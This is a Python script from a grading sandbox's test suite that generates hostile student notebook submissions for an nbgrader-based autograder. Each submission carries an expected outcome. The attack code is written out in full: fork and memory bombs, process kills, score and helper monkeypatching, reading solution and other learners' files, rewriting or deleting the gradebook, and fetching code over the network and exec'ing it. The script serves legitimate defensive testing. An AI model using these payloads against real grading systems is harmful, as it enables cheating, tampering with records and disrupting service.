"""Write the hostile-submission corpus for ``threshold_design`` (see README.md next to this file).

Every submission is derived from the *released* student notebook, like the round-trip test's
fake students: answer cells are filled with an attack (and, where that makes the expected
outcome sharper, the other answers with the source's solutions).  A few are not notebooks at
all (broken JSON, an empty file, a GBK-encoded file).

    python tests/hostile/make_corpus.py COURSE_DIR [--port PORT]

writes ``COURSE_DIR/_grading/submitted/<kind>/threshold_design/`` for every kind, where
COURSE_DIR already holds ``assignments/threshold_design/threshold_design.ipynb`` (released)
and ``solutions/threshold_design/threshold_design.ipynb`` (source).  Some attacks embed the
course folder's absolute path (a learner who knows where the grader runs) and PORT, a port on
127.0.0.1 where the test serves the solution code to anyone who can connect.

The fork bomb refuses to go off unless it runs as a non-root user with RLIMIT_NPROC <= 256.
"""

from __future__ import annotations

import argparse
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

from shequn.grading.course import fill_answers, solution_code

ASSIGNMENT = "threshold_design"
POINTS = {"q1_tests": 3.0, "q2_tests": 4.0, "q3_tests": 6.0}
ANSWERS = ("q1_answer", "q2_answer", "q3_answer")
GBK_NAME = "阈值设计数据.csv".encode("gbk")  # not valid UTF-8
PWNED = "/tmp/shequn-hostile-pwned"  # no attack may create anything with this prefix


@dataclass
class Expect:
    """What the grader must make of a submission.

    ``score``: the exact autograded total (None: not fixed); ``max_score``: an upper bound;
    ``flag``: the grader must report the submission as not gradable / suspicious;
    ``zero_or_flag``: either a total of 0 or a flag is acceptable.
    """

    what: str
    outcome: str
    score: float | None = None
    max_score: float | None = None
    flag: bool = False
    zero_or_flag: bool = False


def _cells(nb):
    return {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}


CORRECT = {gid: None for gid in ANSWERS}
LATER_EMPTY = {"q2_answer": "# (defined above)\n", "q3_answer": "# (defined above)\n"}

# ------------------------------------------------------------------ attack code
INFINITE_LOOP = """def highest_price(applicants, min_members, prices):
    while True:  # hangs every test that calls it
        pass
"""
MEMORY_BOMB = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0):
    hog = []
    while True:  # grows until the address-space limit says no
        hog.append(bytearray(10**8))
"""
FORK_BOMB = """import os, resource
# guard: never go off outside the grading sandbox (non-root, RLIMIT_NPROC small)
assert os.getuid() != 0 and 0 < resource.getrlimit(resource.RLIMIT_NPROC)[0] <= 256, "not sandboxed"
print("fork bomb armed, uid", os.getuid(), "nproc", resource.getrlimit(resource.RLIMIT_NPROC)[0])
while True:
    os.fork()
"""
HUGE_OUTPUT = "print('x' * 10**8)  # 100 MB of output in one message\n\n"
SYS_EXIT = "import sys\nsys.exit('bye')\n\n"
OS_EXIT = "import os\nos._exit(1)\n\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)  # SIGSEGV in the kernel\n\n"
SIGKILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n\n"
SYNTAX_ERROR = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0)
    return pd.DataFrame(  # missing colon and bracket
"""
MONKEYPATCH_SCORE = """import shequn.grading.checks as c
c.Checks.score = lambda self: self.points  # every test cell now returns full points

def highest_price(applicants, min_members, prices):
    return None
"""
FAKE_HELPERS = """import builtins, types
import shequn.grading as g

def _ok(*args, **kwargs):
    return None

# rebind the helpers the test cells call, in the notebook and in the package
expect = expect_type = check_hashed = _ok
for _name in ("expect", "expect_type", "check_hashed", "expect_close", "expect_frame_close"):
    setattr(g, _name, _ok)
# and hand hidden tests a fake module when they re-import the helpers
_fake = types.ModuleType("shequn.grading")
_fake.__dict__.update(vars(g))
for _name in ("expect", "expect_type", "check_hashed", "expect_close", "expect_frame_close"):
    setattr(_fake, _name, _ok)
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "shequn.grading" and fromlist:
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import

def highest_price(applicants, min_members, prices):
    return 150
"""
FAKE_STUBS = {
    "q2_answer": "def policy_table(applicants, policies, *, min_members, min_active_share, seed=0):\n"
                 "    return pd.DataFrame()\n",
    "q3_answer": "my_policy = th.FreePolicy()\n",
}
_HARVEST = """import glob, json, os

def _harvest(patterns):
    \"\"\"Run the code cells of every notebook we can read (a solution or someone's answers).\"\"\"
    ns, log = globals(), []
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, encoding="utf-8") as fh:
                    nb = json.load(fh)
                for cell in nb["cells"]:
                    src = "".join(cell["source"])
                    gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
                    if cell["cell_type"] == "code" and gid.endswith("_answer"):
                        exec(src, ns)
                log.append(f"read {path}")
            except Exception as exc:  # noqa: BLE001
                log.append(f"{path}: {type(exc).__name__}: {exc}")
    print("\\n".join(log) or "nothing found")
"""
READ_SOLUTION = _HARVEST + """
_harvest([@COURSE@ + "/solutions/threshold_design/*.ipynb",
          "../../../solutions/threshold_design/*.ipynb"])
for _p in (@COURSE@ + "/gradebook.db", @COURSE@ + "/nbgrader_config.py"):
    try:
        print(_p, len(open(_p, "rb").read()), "bytes readable")
    except OSError as exc:
        print(_p, type(exc).__name__)
"""
READ_OTHER = _HARVEST + """
# a friend's id is enough; reading everyone's would also run the other attacks
_harvest([@COURSE@ + "/_grading/submitted/correct/threshold_design/threshold_design.ipynb",
          @COURSE@ + "/_grading/autograded/correct/threshold_design/threshold_design.ipynb",
          "../../correct/threshold_design/threshold_design.ipynb",
          "../../../submitted/correct/threshold_design/threshold_design.ipynb"])
"""
WRITE_GRADEBOOK = """import os, sqlite3
_db = @COURSE@ + "/gradebook.db"
for _attempt in (
    lambda: sqlite3.connect(_db).executescript(
        "UPDATE grade SET manual_score = 100; UPDATE comment SET manual_comment = 'pwned';"),
    lambda: open(_db, "r+b").write(b"SQLite format 3\\x00 garbage"),
    lambda: os.remove(_db),
    lambda: open(@COURSE@ + "/_grading/pwned.txt", "w").write("x"),
    lambda: open(@PWNED@ + "-gradebook", "w").write("x"),
):
    try:
        _attempt()
        print("attack step succeeded")
    except Exception as exc:  # noqa: BLE001
        print("blocked:", type(exc).__name__, exc)
"""
NETWORK = """import socket
_code = b""
for _host, _port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("example.com", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as s:
            while _chunk := s.recv(65536):
                _code += _chunk
        print("connected to", _host)
    except OSError as exc:
        print(_host, type(exc).__name__, exc)
exec(_code.decode(), globals())  # the answers, served from outside
"""


def _sub(code: str, *, course: str = "", port: int = 0) -> str:
    return code.replace("@COURSE@", repr(course)).replace("@PWNED@", repr(PWNED)).replace("@PORT@", str(port))


def _deleted_tests(release, source):
    nb = fill_answers(release, source, {})
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in POINTS]
    return nb


def _edited_tests(release, source):
    from nbgrader.utils import compute_checksum

    nb = fill_answers(release, source, {})
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in POINTS:
            pts = POINTS[gid]
            cell.source = (f'checks = Checks(points={pts}, name="{gid}")\n'
                           f"checks.score = lambda: {pts}\nchecks.score()")
            cell.metadata["nbgrader"]["checksum"] = compute_checksum(cell)  # a "valid" checksum
    return nb


def _wrong_assignment(other_release):
    return nbformat.from_dict(json.loads(json.dumps(other_release)))


def corpus(release, source, *, course: str, port: int, other_release=None) -> dict[str, tuple[Expect, object]]:
    """``{student id: (Expect, content)}``; content is a notebook, ``bytes`` or ``{name: bytes}``."""
    f = lambda answers: fill_answers(release, source, answers)  # noqa: E731
    nb_bytes = lambda nb: nbformat.writes(nb).encode("utf-8")  # noqa: E731
    solutions = _cells(source)

    def before(gid: str, code: str):
        """The correct notebook with *code* run first in answer cell *gid*."""
        return f({**CORRECT, gid: code + solution_code(solutions[gid].source)})

    out: dict[str, tuple[Expect, object]] = {
        "h01_infinite_loop": (Expect(
            "highest_price loops forever; q2/q3 correct",
            "q1 test cell hits the per-cell timeout (interrupted): q1 0, rest graded -> 10", score=10.0),
            f({**CORRECT, "q1_answer": INFINITE_LOOP})),
        "h02_memory_bomb": (Expect(
            "policy_table allocates 100 MB blocks forever; q1/q3 correct",
            "MemoryError at the address-space limit, kernel survives: q2 0 -> 9", score=9.0),
            f({**CORRECT, "q2_answer": MEMORY_BOMB})),
        "h03_fork_bomb": (Expect(
            "guarded `while True: os.fork()` in the q3 answer; q1/q2 correct",
            "fork fails at RLIMIT_NPROC (or the cell times out / kernel is killed); no process survives; "
            "q3 0 -> 7 (or flagged)", max_score=7.0),
            f({**CORRECT, "q3_answer": FORK_BOMB})),
        "h04_huge_output": (Expect(
            "prints 10^8 characters, then the correct answers",
            "grader survives, graded normally -> 13; the stored notebook stays < 1 MB "
            "(nbgrader's LimitOutput caps lines, not characters: the grader must cap the size)",
            score=13.0),
            before("q1_answer", HUGE_OUTPUT)),
        "h05_sys_exit": (Expect(
            "sys.exit() before defining highest_price; q2/q3 correct",
            "IPython turns SystemExit into a cell error, kernel lives: q1 0 -> 10", score=10.0),
            before("q1_answer", SYS_EXIT)),
        "h06_os_exit": (Expect(
            "os._exit(1) in the q2 answer (q1 correct)",
            "kernel dies: no grade may be recorded as if the notebook ran; flagged (or at most the 3 points of q1)",
            max_score=3.0, zero_or_flag=False),
            before("q2_answer", OS_EXIT)),
        "h07_segfault": (Expect(
            "ctypes.string_at(0) in the q3 answer (q1/q2 correct)",
            "kernel crashes (SIGSEGV): flagged (or at most 7)", max_score=7.0),
            before("q3_answer", SEGFAULT)),
        "h08_sigkill": (Expect(
            "os.kill(os.getpid(), 9) in the q1 answer",
            "kernel killed: flagged, or 0", max_score=0.0, zero_or_flag=True),
            before("q1_answer", SIGKILL)),
        "h09_syntax_error": (Expect(
            "SyntaxError in the q2 answer; q1/q3 correct",
            "q2 0 with a SyntaxError shown, rest graded -> 9", score=9.0),
            f({**CORRECT, "q2_answer": SYNTAX_ERROR})),
        "h10_invalid_json": (Expect(
            "truncated notebook JSON", "not gradable: flagged, batch continues", flag=True),
            {f"{ASSIGNMENT}.ipynb": nb_bytes(f(CORRECT))[:2000]}),
        "h11_empty_file": (Expect(
            "0-byte threshold_design.ipynb", "not gradable: flagged, batch continues", flag=True),
            {f"{ASSIGNMENT}.ipynb": b""}),
        "h12_wrong_assignment": (Expect(
            "the released group_analysis notebook saved as threshold_design.ipynb",
            "none of the graded cells exist: 0 or flagged", max_score=0.0, zero_or_flag=True),
            _wrong_assignment(other_release) if other_release is not None else None),
        "h13_deleted_tests": (Expect(
            "all test cells deleted, answers untouched (raise NotImplementedError)",
            "nbgrader restores the test cells from the gradebook: 0", max_score=0.0, zero_or_flag=True),
            _deleted_tests(release, source)),
        "h14_edited_tests": (Expect(
            "test cells replaced by `checks.score = lambda: N`, checksums recomputed; empty answers",
            "nbgrader overwrites locked/graded cells from the gradebook: 0", max_score=0.0, zero_or_flag=True),
            _edited_tests(release, source)),
        "h15_monkeypatch_score": (Expect(
            "`c.Checks.score = lambda self: self.points` in the q1 answer; stub answers",
            "must not earn points: 0 or flagged (tests run in the learner's namespace!)",
            max_score=0.0, zero_or_flag=True),
            f({"q1_answer": MONKEYPATCH_SCORE, **FAKE_STUBS})),
        "h16_fake_helpers": (Expect(
            "rebinds expect/check_hashed/... to no-ops, patches shequn.grading and hooks "
            "builtins.__import__; stub answers",
            "must not earn points: 0 or flagged", max_score=0.0, zero_or_flag=True),
            f({"q1_answer": FAKE_HELPERS, **FAKE_STUBS})),
        "h17_read_solution": (Expect(
            "reads solutions/threshold_design/*.ipynb (absolute and relative paths), gradebook.db, "
            "config, and execs the solution cells",
            "PermissionError / not found; nothing defined: 0", max_score=0.0, zero_or_flag=True),
            f({"q1_answer": _sub(READ_SOLUTION, course=course), **LATER_EMPTY})),
        "h18_read_other_learner": (Expect(
            "reads _grading/submitted/*/ and _grading/autograded/*/ notebooks and execs their answers",
            "PermissionError / not found: 0", max_score=0.0, zero_or_flag=True),
            f({"q1_answer": _sub(READ_OTHER, course=course), **LATER_EMPTY})),
        "h19_write_gradebook": (Expect(
            "UPDATEs gradebook.db, overwrites its header, deletes it, writes into the course and /tmp",
            "every step blocked; gradebook intact; 0", max_score=0.0, zero_or_flag=True),
            f({"q1_answer": _sub(WRITE_GRADEBOOK, course=course)})),
        "h20_gbk_content": (Expect(
            "correct notebook, but the file is encoded in GBK (not UTF-8)",
            "not readable as a notebook: flagged (never crashes the batch)", flag=True),
            {f"{ASSIGNMENT}.ipynb": nbformat.writes(f(CORRECT)).encode("gbk", errors="replace")}),
        "h21_gbk_filename": (Expect(
            "partial answers plus an extra file whose name and content are GBK bytes",
            "extra file ignored/copied; graded normally -> 8.3333", score=8.3333),
            None),  # filled below (needs the partial answers)
        "h22_network": (Expect(
            "connects to 127.0.0.1:PORT (where the test serves the solution), 1.1.1.1, example.com "
            "and execs what it receives",
            "no network at all: nothing received, 0", max_score=0.0, zero_or_flag=True),
            f({"q1_answer": _sub(NETWORK, port=port), **LATER_EMPTY})),
    }
    return out


def write(course: Path, entries: dict[str, tuple[Expect, object]],
          timestamp: str = "2026-11-20 12:00:00.000000 UTC") -> list[str]:
    """Write each entry to ``course/_grading/submitted/<student>/threshold_design/``."""
    written = []
    for student, (_, content) in entries.items():
        folder = course / "_grading" / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        if isinstance(content, dict) and not isinstance(content, nbformat.NotebookNode):
            for name, data in content.items():
                # bytes names are not valid UTF-8 (GBK): create them with the raw bytes
                path = bytes(folder) + b"/" + name if isinstance(name, bytes) else folder / name
                with open(path, "wb") as fh:
                    fh.write(data if isinstance(data, bytes) else nbformat.writes(data).encode("utf-8"))
        else:
            nbformat.write(content, folder / f"{ASSIGNMENT}.ipynb")
        (folder / "timestamp.txt").write_text(timestamp)
        written.append(student)
    return written


def build(course: Path, *, port: int, partial_answers: dict[str, str | None]) -> dict[str, Expect]:
    """Write the whole corpus into ``course``; return ``{student: Expect}``."""
    release = nbformat.read(course / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    source = nbformat.read(course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    other = course / "assignments" / "group_analysis" / "group_analysis.ipynb"
    if not other.exists():
        other = Path(__file__).resolve().parents[2] / "assignments" / "group_analysis" / "group_analysis.ipynb"
    entries = corpus(release, source, course=str(course), port=port,
                     other_release=nbformat.read(other, as_version=4))
    partial = fill_answers(release, source, partial_answers)
    entries["h21_gbk_filename"] = (entries["h21_gbk_filename"][0], {
        f"{ASSIGNMENT}.ipynb": nbformat.writes(partial).encode("utf-8"),
        GBK_NAME: "成员,活跃\n张三,是\n".encode("gbk")})
    write(course, entries)
    return {student: expect for student, (expect, _) in entries.items()}


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("course", type=Path)
    parser.add_argument("--port", type=int, default=9)
    args = parser.parse_args()
    part = {"q1_answer": None, "q2_answer": None, "q3_answer": "my_policy = th.FreePolicy()"}
    for name, exp in build(args.course.resolve(), port=args.port, partial_answers=part).items():
        print(f"{name:24} {exp.outcome}")
